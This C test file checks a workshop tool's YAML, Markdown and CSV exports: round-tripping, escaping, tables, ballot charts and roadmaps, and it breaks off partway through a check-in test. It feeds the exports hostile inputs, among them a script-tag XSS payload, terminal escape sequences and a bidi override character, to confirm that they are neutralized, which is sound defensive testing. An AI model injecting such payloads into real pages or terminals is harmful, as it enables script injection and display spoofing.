/* Tests for the exports: the YAML export is the JSON export's tree and
 * reads back into the same nodes; the Markdown report shows hostile text
 * literally, draws its bars, charts and roadmap, and at a check-in says
 * what changed since last time; the CSV export quotes as RFC 4180 asks and
 * neutralizes formulas while the program's own numbers stay numbers. No
 * export lets a raw control or bidi character through. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <math.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lib/date.h"
#include "lib/error.h"
#include "lib/json_reader.h"
#include "lib/mem.h"
#include "lib/sbuf.h"
#include "lib/utf8.h"
#include "lib/yaml_reader.h"
#include "lib/yaml_writer.h"
#include "model/ballot.h"
#include "model/checkin.h"
#include "model/compare.h"
#include "model/session.h"
#include "sessions/export.h"

#define NELEMS(a) (sizeof(a) / sizeof((a)[0]))
#define CREATED 1767225600      /* 2026-01-01T00:00:00Z */
#define TODAY 20540             /* 2026-03-28 */

/* ---- a session in memory, with ids as the store would give them ---- */

static void ok(enum err_code code, const struct error *err)
{
	if (code != ERR_OK)
		fail_msg("%s", err->msg);
}

static struct session *blank_session(const char *title, const char *const *people,
				     size_t npeople)
{
	static struct template_dimension dims[] = {
		{(char *)"culture", (char *)"Culture: sharing, trust", (char *)"Do we ask?",
		 (char *)"nobody asks", (char *)"everyone asks"},
		{(char *)"policies", (char *)"Policies", (char *)"Do policies help?",
		 (char *)"they get in the way", (char *)"they fund learning"},
		{(char *)"tools", (char *)"Tools that find answers", (char *)"Can we find it?",
		 (char *)"never", (char *)"at once"},
	};
	static char *labels[] = {(char *)"absent", (char *)"ad hoc", (char *)"emerging",
				 (char *)"established", (char *)"thriving"};
	const struct template tpl = {
		.key = (char *)"export-test",
		.name = (char *)"Export test",
		.version = 1,
		.scale = {1, 5, labels, NELEMS(labels)},
		.dims = dims,
		.ndims = NELEMS(dims),
	};
	const struct session_setup setup = {
		.title = title, .organization = "Acme", .unit = "Sales", .facilitator = "Dee",
		.level = LEVEL_UNIT, .participants = people, .nparticipants = npeople,
	};
	struct error err = {0};
	struct session *s = session_create(&setup, &tpl, &err);
	if (s == NULL)
		fail_msg("%s", err.msg);
	s->id = 7;
	s->series_id = 3;
	s->iteration = 1;
	s->created_at = CREATED;
	for (size_t p = 0; p < s->nparticipants; p++)
		s->participants[p].id = (int64_t)p + 1;
	return s;
}

struct step_row {
	const char *text;
	enum horizon horizon;
	const char *owner;
	int impact, effort;
};

static const struct step_row steps[] = {
	{"Pilot show-and-tell in Sales", HORIZON_SHORT, "Ana", 4, 2},
	{"Build a searchable answers wiki", HORIZON_MEDIUM, NULL, 5, 4},
	{"Tie recognition to sharing", HORIZON_LONG, "Zoë Ng", SCORE_NONE, SCORE_NONE},
	{"Coaching circles", HORIZON_SHORT, "日本語", 2, 1},
	{"A monthly retro on how we learn", HORIZON_MEDIUM, NULL, 3, SCORE_NONE},
	{"Rotate the wiki gardener", HORIZON_LONG, "Bo", 1, 1},
};

/* The statuses the steps end with, one of each and a second "planned". */
static const enum step_status step_fates[] = {STEP_PLANNED, STEP_DOING, STEP_DONE,
					      STEP_DROPPED, STEP_CARRIED, STEP_PLANNED};

static void add_steps(struct session *s)
{
	struct error err = {0};
	for (size_t i = 0; i < NELEMS(steps); i++) {
		const struct step fields = {
			.text = (char *)steps[i].text, .horizon = steps[i].horizon,
			.status = STEP_PLANNED, .owner = (char *)steps[i].owner,
			.impact = steps[i].impact, .effort = steps[i].effort,
			.points = POINTS_NONE,
		};
		ok(session_add_step(s, &fields, &err), &err);
		s->steps[i].id = 100 + (int64_t)i;
	}
}

static struct ballot *open_ballot(struct session *s, enum ballot_method method)
{
	struct error err = {0};
	ok(session_open_ballot(s, method, BALLOT_ENTRY_SECRET, -1, &err), &err);
	s->ballots[s->nballots - 1].id = (int64_t)s->nballots;
	return &s->ballots[s->nballots - 1];
}

static void reveal_last(struct session *s)
{
	struct error err = {0};
	ok(session_reveal_ballot(s, s->nballots - 1, &err), &err);
}

/* Dots: 4, 3, 3, 0, 1, 1 points: a tie for second and one for fourth. */
static void hold_dots_ballot(struct session *s)
{
	static const int dots[4][6] = {
		{2, 1, 0, 0, 0, 0}, {2, 1, 0, 0, 0, 0}, {0, 1, 2, 0, 0, 0}, {0, 0, 1, 0, 1, 1},
	};
	struct error err = {0};
	struct ballot *b = open_ballot(s, BALLOT_DOTS);
	for (int v = 0; v < 4; v++)
		ok(ballot_cast_dots(b, v + 1, dots[v], &err), &err);
	reveal_last(s);
}

static void cast_ranked(struct ballot *b, int64_t voter, const size_t *order, size_t n)
{
	struct error err = {0};
	ok(ballot_cast_ranked(b, voter, order, n, &err), &err);
}

/* Ranked: the first step beats every other one head to head. */
static void hold_ranked_ballot(struct session *s)
{
	struct ballot *b = open_ballot(s, BALLOT_RANKED);
	cast_ranked(b, 1, (const size_t[]){0, 1, 2}, 3);
	cast_ranked(b, 2, (const size_t[]){0, 2, 1}, 3);
	cast_ranked(b, 3, (const size_t[]){1, 0}, 2);
	reveal_last(s);
}

static void add_metric(struct session *s, const char *name, enum direction dir, double baseline,
		       double target, const double *values, size_t nvalues)
{
	struct error err = {0};
	const struct metric fields = {
		.goal_id = s->goals[0].id, .name = (char *)name, .unit = (char *)"%",
		.direction = dir, .baseline = baseline, .target = target,
		.baseline_date = NO_DATE, .target_date = date_from_civil(2026, 12, 31),
	};
	ok(session_add_metric(s, &fields, &err), &err);
	size_t m = s->nmetrics - 1;
	s->metrics[m].id = 50 + (int64_t)m;
	for (size_t k = 0; k < nvalues; k++)
		ok(session_add_measurement(s, m, values[k], date_from_civil(2026, 2, 1 + (int)k),
					   &err), &err);
}

/* On track, no data, met, off track and at risk. */
static void add_metrics(struct session *s)
{
	add_metric(s, "Questions answered within a day", DIRECTION_UP, 40, 70,
		   (const double[]){45, 55}, 2);
	add_metric(s, "Days to a first answer", DIRECTION_DOWN, NAN, NAN, NULL, 0);
	add_metric(s, "Hours lost searching", DIRECTION_DOWN, 10, 2, (const double[]){1.5}, 1);
	add_metric(s, "People who shared a lesson", DIRECTION_UP, 50, 80,
		   (const double[]){40}, 1);
	add_metric(s, "Wiki pages updated", DIRECTION_UP, 0, 100, (const double[]){0}, 1);
}

static void add_goals_and_values(struct session *s)
{
	static const enum goal_status statuses[] = {GOAL_ACTIVE, GOAL_REVISED, GOAL_ACHIEVED,
						    GOAL_RETIRED};
	static const char *const texts[] = {"Anyone finds an answer within a day",
					    "Managers coach every week", "A budget for learning",
					    "Show-and-tell every month"};
	static const char *const keys[] = {"tools", NULL, "policies", "culture"};
	struct error err = {0};
	for (size_t i = 0; i < NELEMS(texts); i++) {
		ok(session_add_goal(s, texts[i], keys[i], &err), &err);
		ok(session_set_goal_status(s, i, statuses[i], &err), &err);
		s->goals[i].id = 20 + (int64_t)i;
	}
	ok(session_add_value(s, "share by default", &err), &err);
	ok(session_add_value(s, "fail small — learn fast 🚀", &err), &err);
	for (size_t i = 0; i < s->nvalues; i++)
		s->values[i].id = 30 + (int64_t)i;
}

static void add_ratings_and_notes(struct session *s)
{
	struct error err = {0};
	ok(session_rate(s, 0, 0, 3, &err), &err);
	ok(session_rate(s, 0, 1, 4, &err), &err);
	ok(session_rate(s, 0, 2, 1, &err), &err);
	ok(session_set_group_score(s, 1, 2, &err), &err);
	ok(session_add_note(s, 0, NOTE_STRENGTH, "people ask in the open channel", &err), &err);
	ok(session_add_note(s, 0, NOTE_GAP, "answers get lost in chat", &err), &err);
}

/* Every goal, step, ballot and metric status, every horizon, UTF-8 in
 * names and texts, and lists left empty (the third dimension's ratings
 * and notes, a metric's measurements, the parking lot). */
static struct session *full_session(void)
{
	static const char *const people[] = {"Ana", "Zoë Ng", "日本語", "Bo"};
	struct error err = {0};
	struct session *s = blank_session("Q1: how Sales learns", people, NELEMS(people));
	add_ratings_and_notes(s);
	add_goals_and_values(s);
	add_metrics(s);
	add_steps(s);
	hold_dots_ballot(s);
	hold_ranked_ballot(s);
	struct ballot *b = open_ballot(s, BALLOT_APPROVAL);
	ok(ballot_cast_approval(b, 4, (const bool[]){true, false, true, false, false, true},
				&err), &err);
	ok(ballot_close(b, &err), &err);
	open_ballot(s, BALLOT_SCORING);
	for (size_t i = 0; i < s->nsteps; i++)
		ok(session_set_step_status(s, i, step_fates[i], &err), &err);
	ok(session_set_stage(s, STAGE_REVIEW, &err), &err);
	ok(session_close(s, CREATED + 7200, &err), &err);
	return s;
}

static char *export_as(void (*write)(const struct export_context *, struct sbuf *),
		       const struct session *s, bool names)
{
	struct sbuf out = SBUF_INIT;
	const struct export_context ctx = {.session = s, .today = TODAY, .names = names};
	write(&ctx, &out);
	return sbuf_take(&out);
}

static char *export_with(void (*write)(const struct export_context *, struct sbuf *),
			 const struct session *s)
{
	return export_as(write, s, false);
}

/* With each person's scores, as --names asks. */
static char *export_with_names(void (*write)(const struct export_context *, struct sbuf *),
			       const struct session *s)
{
	return export_as(write, s, true);
}

/* The Markdown export of full_session(); the caller frees it. */
static char *full_session_md(void)
{
	struct session *s = full_session();
	char *md = export_with(export_md, s);
	session_free(s);
	return md;
}

/* Replaces a text the way a hostile or damaged database could hold it:
 * with bytes session_text would refuse. */
static void replace(char **field, const char *raw)
{
	free(*field);
	*field = xstrdup(raw);
}

/* ---- what no export may hold ---- */

static bool is_bidi_control(uint32_t cp)
{
	return cp == 0x061c || cp == 0x200e || cp == 0x200f || (cp >= 0x202a && cp <= 0x202e) ||
	       (cp >= 0x2066 && cp <= 0x2069);
}

/* Valid UTF-8 with no control character but LF (and CR right before LF,
 * when crlf), no DEL, no C1 and no bidi control. */
static void assert_no_raw_controls(const char *text, bool crlf)
{
	size_t len = strlen(text);
	for (size_t i = 0; i < len;) {
		uint32_t cp;
		size_t n = utf8_decode(text + i, len - i, &cp);
		bool line_end = cp == '\n' || (crlf && cp == '\r' && text[i + 1] == '\n');
		if (cp == UTF8_INVALID || (cp < 0x20 && !line_end) || (cp >= 0x7f && cp <= 0x9f) ||
		    is_bidi_control(cp))
			fail_msg("raw U+%04X at byte %zu: ...%.40s", (unsigned)cp, i,
				 text + (i > 20 ? i - 20 : 0));
		i += n;
	}
}

static void assert_contains(const char *text, const char *part)
{
	if (strstr(text, part) == NULL)
		fail_msg("no \"%s\" in:\n%s", part, text);
}

/* Every one of the parts, which end with NULL, is in the text. */
static void assert_contains_each(const char *text, const char *const *parts)
{
	for (size_t i = 0; parts[i] != NULL; i++)
		assert_contains(text, parts[i]);
}

static void assert_lacks(const char *text, const char *part)
{
	if (strstr(text, part) != NULL)
		fail_msg("\"%s\" should not be in:\n%s", part, text);
}

/* ---- YAML ---- */

/* JSON through the strict JSON reader, so that the export is JSON by
 * RFC 8259 and not only by YAML's looser reading. */
static struct ynode *read_tree(const char *name, const char *text)
{
	struct ynode *root = NULL;
	struct error err = {0};
	size_t len = strlen(text);
	enum err_code rc = json_looks_like(text, len)
				   ? json_read_buffer(name, text, len, NULL, &root, &err)
				   : yaml_read_buffer(name, text, len, NULL, &root, &err);
	if (rc != ERR_OK)
		fail_msg("%s\n%s", err.msg, text);
	return root;
}

static void assert_same_node(const struct ynode *a, const struct ynode *b, const char *path)
{
	if (a->kind != b->kind)
		fail_msg("%s: a %d in one, a %d in the other", path, (int)a->kind, (int)b->kind);
	if (a->kind == YNODE_SCALAR) {
		if (a->len != b->len || memcmp(a->text, b->text, a->len) != 0 ||
		    a->quoted != b->quoted)
			fail_msg("%s: \"%s\"%s and \"%s\"%s", path, a->text, a->quoted ? " quoted" : "",
				 b->text, b->quoted ? " quoted" : "");
		return;
	}
	size_t n = a->kind == YNODE_MAPPING ? a->npairs : a->nitems;
	size_t m = b->kind == YNODE_MAPPING ? b->npairs : b->nitems;
	if (n != m)
		fail_msg("%s: %zu entries and %zu", path, n, m);
	for (size_t i = 0; i < n; i++) {
		char child[256];
		if (a->kind == YNODE_SEQUENCE) {
			snprintf(child, sizeof child, "%s[%zu]", path, i);
			assert_same_node(a->items[i], b->items[i], child);
			continue;
		}
		snprintf(child, sizeof child, "%s.%s", path, a->pairs[i].key->text);
		if (strcmp(a->pairs[i].key->text, b->pairs[i].key->text) != 0)
			fail_msg("%s: key \"%s\" against \"%s\"", child, a->pairs[i].key->text,
				 b->pairs[i].key->text);
		assert_same_node(a->pairs[i].value, b->pairs[i].value, child);
	}
}

/* Reads both exports of s with lib/yaml_reader and compares them node by
 * node; returns the YAML document's tree for more checks. */
static struct ynode *assert_yaml_reads_as_json(const struct session *s)
{
	char *json = export_with(export_json, s);
	char *yaml = export_with(export_yaml, s);
	struct ynode *from_json = read_tree("export.json", json);
	struct ynode *from_yaml = read_tree("export.yaml", yaml);
	assert_same_node(from_json, from_yaml, "$");
	assert_no_raw_controls(yaml, false);
	ynode_free(from_json);
	free(json);
	free(yaml);
	return from_yaml;
}

static const struct ynode *at(const struct ynode *node, const char *key, size_t item)
{
	const struct ynode *list = ynode_get(node, key);
	assert_non_null(list);
	assert_int_equal(list->kind, YNODE_SEQUENCE);
	assert_true(item < list->nitems);
	return list->items[item];
}

static const char *text_at(const struct ynode *node, const char *key)
{
	const struct ynode *v = ynode_get(node, key);
	assert_non_null(v);
	assert_int_equal(v->kind, YNODE_SCALAR);
	return v->text;
}

static void export_yaml__reads_back_into_the_same_tree_as_the_json_export(void **state)
{
	(void)state;
	struct session *s = full_session();
	struct ynode *tree = assert_yaml_reads_as_json(s);
	assert_string_equal(text_at(tree, "format"), EXPORT_FORMAT);
	assert_string_equal(text_at(at(tree, "participants", 1), "name"), "Zoë Ng");
	for (size_t i = 0; i < NELEMS(steps); i++) {
		const struct ynode *st = at(tree, "steps", i);
		assert_string_equal(text_at(st, "horizon"), horizon_name(steps[i].horizon));
		assert_string_equal(text_at(st, "status"), step_status_name(step_fates[i]));
	}
	for (int g = 0; g < GOAL_STATUS_COUNT; g++)
		assert_string_equal(text_at(at(tree, "goals", (size_t)g), "status"),
				    goal_status_name((enum goal_status)g));
	static const enum metric_status statuses[] = {METRIC_ON_TRACK, METRIC_NO_DATA, METRIC_MET,
						      METRIC_OFF_TRACK, METRIC_AT_RISK};
	for (size_t m = 0; m < NELEMS(statuses); m++)
		assert_string_equal(text_at(at(tree, "metrics", m), "status"),
				    metric_status_name(statuses[m]));
	assert_string_equal(text_at(at(tree, "ballots", 0), "status"), "revealed");
	assert_int_equal(ynode_get(at(tree, "ballots", 0), "results")->nitems, NELEMS(steps));
	assert_int_equal(ynode_get(at(tree, "ballots", 2), "results")->nitems, 0);
	assert_int_equal(ynode_get(tree, "parking_lot")->nitems, 0);
	assert_int_equal(ynode_get(at(tree, "dimensions", 2), "ratings")->nitems, 0);
	assert_true(ynode_is_null(ynode_get(at(tree, "dimensions", 2), "mean")));
	ynode_free(tree);
	session_free(s);
}

static void export_yaml__reads_back_an_empty_session_with_every_list_empty(void **state)
{
	(void)state;
	struct session *s = blank_session("Nothing yet", NULL, 0);
	struct ynode *tree = assert_yaml_reads_as_json(s);
	static const char *const lists[] = {"participants", "values", "goals", "metrics",
					    "steps", "ballots", "parking_lot"};
	for (size_t i = 0; i < NELEMS(lists); i++)
		assert_int_equal(ynode_get(tree, lists[i])->nitems, 0);
	ynode_free(tree);
	session_free(s);
}

/* Texts a plain YAML scalar would turn into something else, or that
 * would not parse at all. */
static const char *const tricky[] = {
	"true", "no", "null", "~", "3", "-1.5", "0x1F", " leading space", "trailing space ",
	"a: b", "# not a comment", "- not an item", "@at", "`tick", "'single'", "\"double\"",
	"%percent", "!tag", "&anchor", "*alias", "|", ">", "? key", "{a: 1}", "[1, 2]",
	"C:\\temp", "---", "...",
};

static void export_yaml__quotes_every_string_so_none_reads_as_a_number_boolean_or_null(
	void **state)
{
	(void)state;
	struct session *s = blank_session("Tricky texts", NULL, 0);
	struct error err = {0};
	for (size_t i = 0; i < NELEMS(tricky); i++)
		ok(session_park(s, tricky[i], &err), &err);
	/* session_park trims; put the spaces back as a damaged file might. */
	replace(&s->parking[7].text, tricky[7]);
	replace(&s->parking[8].text, tricky[8]);
	struct ynode *tree = assert_yaml_reads_as_json(s);
	for (size_t i = 0; i < NELEMS(tricky); i++) {
		const struct ynode *text = ynode_get(at(tree, "parking_lot", i), "text");
		assert_true(text->quoted);
		assert_string_equal(text->text, tricky[i]);
	}
	ynode_free(tree);
	session_free(s);
}

static void export_yaml__escapes_controls_bidi_noncharacters_and_bad_bytes(void **state)
{
	(void)state;
	static const char hostile[] = "a\033]0;owned\007 b\r\n\t c\342\200\256d \xef\xbf\xbf "
				      "e\xc2\x9b f\377g";
	struct session *s = blank_session("placeholder", NULL, 0);
	replace(&s->title, hostile);
	char *yaml = export_with(export_yaml, s);
	assert_no_raw_controls(yaml, false);
	assert_lacks(yaml, "\xef\xbf\xbf");
	assert_contains(yaml, "title: \"a\\u001b]0;owned\\u0007 b\\r\\n\\t c\\u202ed \\uffff "
			      "e\\u009b f\\ufffdg\"");
	struct ynode *tree = read_tree("export.yaml", yaml);
	assert_string_equal(text_at(ynode_get(tree, "session"), "title"),
			    "a\033]0;owned\007 b\r\n\t c\342\200\256d \xef\xbf\xbf "
			    "e\xc2\x9b f\xef\xbf\xbdg");
	ynode_free(tree);
	free(yaml);
	session_free(s);
}

/* The writer on its own: nested sequences, empty containers at every
 * place, keys that need quotes, and documents that are only a scalar, a
 * sequence or an empty mapping. */
static void yaml_writer__writes_nested_and_empty_containers_that_read_back(void **state)
{
	(void)state;
	struct sbuf out = SBUF_INIT;
	struct yaml_writer y;
	yaml_writer_start(&y, &out);
	const struct emitter e = yaml_writer_emitter(&y);
	emit_object(&e);
	emit_key(&e, "grid");
	emit_array(&e);
	emit_array(&e);
	emit_int(&e, 1);
	emit_int(&e, -2);
	emit_end(&e);
	emit_array(&e);
	emit_end(&e);
	emit_object(&e);
	emit_end(&e);
	emit_object(&e);
	emit_key(&e, "yes");
	emit_bool(&e, true);
	emit_key(&e, "2");
	emit_number(&e, 2.0);
	emit_key(&e, "a b");
	emit_number(&e, NAN);
	emit_end(&e);
	emit_end(&e);
	emit_key(&e, "empty");
	emit_object(&e);
	emit_end(&e);
	emit_end(&e);
	assert_string_equal(sbuf_str(&out), "grid:\n"
					    "  - - 1\n"
					    "    - -2\n"
					    "  - []\n"
					    "  - {}\n"
					    "  - \"yes\": true\n"
					    "    \"2\": 2.0\n"
					    "    \"a b\": null\n"
					    "empty: {}\n");
	struct ynode *tree = read_tree("writer", sbuf_str(&out));
	const struct ynode *grid = ynode_get(tree, "grid");
	assert_int_equal(grid->nitems, 4);
	assert_string_equal(grid->items[0]->items[1]->text, "-2");
	assert_string_equal(text_at(grid->items[3], "2"), "2.0");
	assert_true(ynode_is_null(ynode_get(grid->items[3], "a b")));
	ynode_free(tree);
	sbuf_reset(&out);
	yaml_writer_start(&y, &out);
	emit_string(&e, "alone");
	assert_string_equal(sbuf_str(&out), "\"alone\"\n");
	sbuf_reset(&out);
	yaml_writer_start(&y, &out);
	emit_array(&e);
	emit_int(&e, 1);
	emit_null(&e);
	emit_end(&e);
	assert_string_equal(sbuf_str(&out), "- 1\n- null\n");
	sbuf_reset(&out);
	yaml_writer_start(&y, &out);
	emit_object(&e);
	emit_end(&e);
	assert_string_equal(sbuf_str(&out), "{}\n");
	sbuf_free(&out);
}

/* ---- Markdown ---- */

static const char *const hostile_titles[] = {
	"<script>alert(1)</script>", "a | b", "**x**", "[x](y)", "two\nlines", "esc\033[2Jape",
	"rtl\342\200\256txt", "# heading", "1. listed", "- bullet", "`code`", "&lt;b&gt;",
};

/* What each hostile title shows as in the Markdown. */
static const char *const shown_as[] = {
	"\\<script\\>alert(1)\\</script\\>", "a \\| b", "\\*\\*x\\*\\*", "\\[x\\](y)",
	"two\\\\x0alines", "esc\\\\x1b\\[2Jape", "rtl\\\\u{202E}txt", "\\# heading",
	"1\\. listed", "\\- bullet", "\\`code\\`", "\\&lt;b\\&gt;",
};

/* A row of a table has as many unescaped pipes as the header. */
static size_t cell_bars(const char *line, size_t len)
{
	size_t bars = 0;
	for (size_t i = 0; i < len; i++) {
		if (line[i] == '\\')
			i++;
		else if (line[i] == '|')
			bars++;
	}
	return bars;
}

static void assert_tables_keep_their_columns(const char *md)
{
	size_t header = 0;
	for (const char *line = md; *line;) {
		const char *end = strchr(line, '\n');
		size_t len = end ? (size_t)(end - line) : strlen(line);
		if (len > 0 && line[0] == '|') {
			size_t bars = cell_bars(line, len);
			if (header == 0)
				header = bars;
			else if (bars != header)
				fail_msg("a row with %zu bars under a header of %zu: %.*s", bars,
					 header, (int)len, line);
		} else {
			header = 0;
		}
		line += len + (end != NULL);
	}
}

/* Outside fenced code blocks (where Markdown shows everything as it is),
 * no '<' opens a tag: each has its backslash. */
static void assert_no_html_outside_code(const char *md)
{
	bool in_code = false;
	for (const char *line = md; *line;) {
		const char *end = strchr(line, '\n');
		size_t len = end ? (size_t)(end - line) : strlen(line);
		if (strncmp(line, "```", 3) == 0)
			in_code = !in_code;
		for (size_t i = 0; !in_code && i < len; i++) {
			if (line[i] == '\\')
				i++;
			else if (line[i] == '<')
				fail_msg("a raw '<' in: %.*s", (int)len, line);
		}
		line += len + (end != NULL);
	}
}

static void export_md__shows_hostile_titles_literally_with_no_raw_control_characters(
	void **state)
{
	(void)state;
	for (size_t i = 0; i < NELEMS(hostile_titles); i++) {
		const char *t = hostile_titles[i];
		struct session *s = full_session();
		replace(&s->title, t);
		replace(&s->participants[0].name, t);
		replace(&s->dims[0].name, t);
		replace(&s->steps[0].text, t);
		replace(&s->goals[0].text, t);
		replace(&s->values[0].text, t);
		replace(&s->dims[0].notes[0].text, t);
		char *md = export_with(export_md, s);
		/* As the title, in the steps' table and in a list. */
		static const char *const around[][2] = {
			{"# ", "\n"}, {"| ", " | – | 2.7 | 1.2 |"}, {"- ", "\n"},
		};
		struct sbuf want = SBUF_INIT;
		for (size_t k = 0; k < NELEMS(around); k++) {
			sbuf_reset(&want);
			sbuf_addf(&want, "%s%s%s", around[k][0], shown_as[i], around[k][1]);
			assert_contains(md, sbuf_str(&want));
		}
		assert_no_html_outside_code(md);
		assert_tables_keep_their_columns(md);
		assert_no_raw_controls(md, false);
		sbuf_free(&want);
		free(md);
		session_free(s);
	}
}

static void export_md__states_the_facts_scores_and_progress_bars_of_the_workshop(void **state)
{
	(void)state;
	char *md = full_session_md();
	assert_contains_each(md, (const char *const[]){
		"# Q1: how Sales learns\n\n**Organization / unit:** Acme / Sales · "
			"**Level:** Unit · **Facilitator:** Dee · **Date:** 2026-01-01 · "
			"**Iteration:** 1 · **Participants:** Ana, Zoë Ng, 日本語, Bo\n",
		"## Summary\n\n4 people rated 2 of 3 dimensions on a 1-5 scale. Strongest: "
			"Culture: sharing, trust (2.7); weakest: Policies (2.0). The room stood "
			"in two camps on Culture: sharing, trust. 2 of 5 metrics are on track or "
			"met; 1 at risk; 1 off track; 1 without data. The top steps: Pilot "
			"show-and-tell in Sales (Ana), Build a searchable answers wiki (no owner "
			"yet) and Tie recognition to sharing (Zoë Ng).\n",
		"| Dimension | Group | Mean | SD | Range | Ratings | Marks |",
		"| Policies | 2 | 2.0 | – | group score | – |  |\n"
			"| Culture: sharing, trust | – | 2.7 | 1.2 | 1-4 | 1 ×1, 3 ×1, 4 ×1 | "
			"⇄ two camps, ✎ 2 notes |\n"
			"| Tools that find answers | – | – | – | – | – |  |\n",
		"each person's ratings are in the report made with --names",
		"- Strength: people ask in the open channel\n",
		"| Questions answered within a day | % | Higher is better | 40 | "
			"55 | 70 | 2026-12-31 | █████·····  50% | On track |",
		"██████████ 106% | Target met |",
		"··········   0% | At risk |",
		"··········" " -33% | Off track |",
		"| Days to a first answer | % | Lower is better | – | – | – | "
			"2026-12-31 | – | No data |",
		"| Show-and-tell every month | Culture: sharing, trust | Retired |",
		"## Steps, by rank\n\n| Rank | Step | Horizon | Status | Owner | Impact / effort | "
			"Points |\n|---:|---|---|---|---|---|---:|\n"
			"| 1 | Pilot show-and-tell in Sales | Short | Planned | Ana | 4 / 2 | 14 |\n"
			"| 2 | Build a searchable answers wiki | Medium | Doing | – | 5 / 4 | 12 |\n"
			"| 3 | Tie recognition to sharing | Long | Done | Zoë Ng | – / – | 7 |\n",
		NULL,
	});
	/* Nobody's own score without --names: Ana gave culture a 3. */
	assert_lacks(md, "| Ana | Zoë Ng |");
	assert_lacks(md, "| 3 | 4 | 1 |");
	assert_true(strstr(md, "## Summary") < strstr(md, "## Current state"));
	assert_lacks(md, "Last time");
	assert_lacks(md, "Since last time");
	assert_tables_keep_their_columns(md);
	free(md);
}

static void export_md__charts_revealed_ballots_with_ties_and_the_condorcet_winner(void **state)
{
	(void)state;
	char *md = full_session_md();
	assert_contains_each(md, (const char *const[]){
		"### Ballot 1: Dots\n\nDots, 3 each, at most 3 on one step · Secret "
			"ballots · anonymous · all 4 voted · Revealed\n\n```text\n",
		"1   Pilot show-and-tell in Sales     ████████████████████    4\n",
		"2=  Build a searchable answers wiki  ███████████████         3\n",
		"6   Coaching circles                                         0\n```\n",
		"\nTied steps share a rank, marked = (tie kept: equal points; "
			"listed in the order they were added).\n",
		"Condorcet winner: Pilot show-and-tell in Sales\n",
		"### Ballot 3: Approval\n\nApproval · Secret ballots · anonymous · "
			"closed with 1 of 4 voted · Closed\n\n_Not revealed",
		"### Ballot 4: Impact / effort\n",
		NULL,
	});
	/* Nothing of the closed ballot's one vote shows: no chart between its
	 * heading and the next. */
	const char *closed = strstr(md, "### Ballot 3");
	const char *chart = strstr(closed, "```");
	assert_true(chart == NULL || chart > strstr(closed, "### Ballot 4"));
	free(md);
}

static void export_md__says_when_a_ranked_ballot_has_no_condorcet_winner(void **state)
{
	(void)state;
	static const char *const people[] = {"Ana", "Bo", "Cy"};
	struct session *s = blank_session("A cycle", people, NELEMS(people));
	add_steps(s);
	struct ballot *b = open_ballot(s, BALLOT_RANKED);
	cast_ranked(b, 1, (const size_t[]){0, 1, 2}, 3);
	cast_ranked(b, 2, (const size_t[]){1, 2, 0}, 3);
	cast_ranked(b, 3, (const size_t[]){2, 0, 1}, 3);
	reveal_last(s);
	char *md = export_with(export_md, s);
	assert_contains(md, "No Condorcet winner");
	assert_lacks(md, "\nCondorcet winner:");
	free(md);
	session_free(s);
}

/* Six people rated, then the room agreed on one score: every format says
 * that the group score alone makes the mean, and the Markdown report
 * marks the people's scores beside it as not counted. */
static void export__a_group_score_over_the_peoples_scores_says_it_alone_is_counted(
	void **state)
{
	(void)state;
	static const char *const people[] = {"Ana", "Bo", "Cy"};
	struct error err = {0};
	struct session *s = blank_session("Agreed", people, NELEMS(people));
	ok(session_rate(s, 0, 0, 1, &err), &err);
	ok(session_rate(s, 0, 1, 5, &err), &err);
	ok(session_rate(s, 1, 0, 2, &err), &err);
	ok(session_rate(s, 1, 1, 4, &err), &err);
	ok(session_set_group_score(s, 0, 4, &err), &err);
	char *md = export_with_names(export_md, s);
	assert_contains(md, "| (1) | (5) | – | 4 | 4.0 | – | group score | – |");
	assert_contains(md, "| 2 | 4 | – | – | 3.0 | 1.0 | 2-4 | 2 ×1, 4 ×1 |");
	assert_contains(md, "the people's scores in ( ) beside it are kept but not counted");
	char *json = export_with(export_json, s);
	assert_contains(json, "\"mean\": 4.0,\n      \"mean_from\": \"group_score\"");
	assert_contains(json, "\"mean\": 3.0,\n      \"mean_from\": \"ratings\"");
	assert_contains(json, "\"mean\": null,\n      \"mean_from\": null");
	char *csv = export_with(export_csv, s);
	assert_contains(csv, "previous_mean,change,mean_from\r\n");
	assert_contains(csv, ",1,4.0,0.0,4,4,0,,,group_score\r\n");
	assert_contains(csv, ",2,3.0,1.0,2,4,2,,,ratings\r\n");
	free(md);
	free(json);
	free(csv);
	session_free(s);
}

/* As on the screen: the done and the dropped are not under a horizon but
 * each under a heading of their own after Later. */
static void export_md__lists_the_roadmap_by_horizon_and_rank_then_the_done_and_dropped(
	void **state)
{
	(void)state;
	char *md = full_session_md();
	const char *roadmap = strstr(md, "## Roadmap");
	assert_non_null(roadmap);
	assert_contains(roadmap, "### Now (short term)\n\n1. Pilot show-and-tell in Sales "
				 "(Ana)\n\n### Next (medium term)\n\n"
				 "1. Build a searchable answers wiki\n"
				 "2. A monthly retro on how we learn\n\n"
				 "### Later (long term)\n\n1. Rotate the wiki gardener (Bo)\n"
				 "\n### Done (1)\n\n- Tie recognition to sharing\n"
				 "\n### Dropped (1)\n\n- Coaching circles\n");
	free(md);
}

/* The next quarter: ratings went up, one carried step is done, another
 * dropped, a new one added, a goal achieved, a metric measured again. */
static struct session *next_quarter(const struct session *first)
{
	struct error err = {0};
	struct session *next = checkin_create(first, CREATED + 90 * DATE_SECONDS_PER_DAY);
	next->id = 8;
	for (size_t p = 0; p < next->nparticipants; p++)
		next->participants[p].id = 200 + (int64_t)p;
	for (size_t i = 0; i < next->ngoals; i++)
		next->goals[i].id = 220 + (int64_t)i;
	for (size_t i = 0; i < next->nmetrics; i++)
		next->metrics[i].id = 250 + (int64_t)i;
	for (size_t p = 0; p < 3; p++)
		ok(session_rate(next, 0, p, 4, &err), &err);
	ok(session_set_step_status(next, 0, STEP_DONE, &err), &err);
	ok(session_set_step_status(next, 1, STEP_DROPPED, &err), &err);
	const struct step fresh = {.text = (char *)"Lunch and learn", .horizon = HORIZON_SHORT,
				   .points = POINTS_NONE};
	ok(session_add_step(next, &fresh, &err), &err);
	for (size_t i = 0; i < next->nsteps; i++)
		next->steps[i].id = 300 + (int64_t)i;
	ok(session_set_goal_status(next, 0, GOAL_ACHIEVED, &err), &err);
	ok(session_add_measurement(next, 0, 62, date_from_civil(2026, 3, 20), &err), &err);
	return next;
}

static void export_md__of_a_check_in_says_what_changed_since_last_time(void **state)
{
	(void)state;
	struct error err = {0};
	struct session *first = full_session();
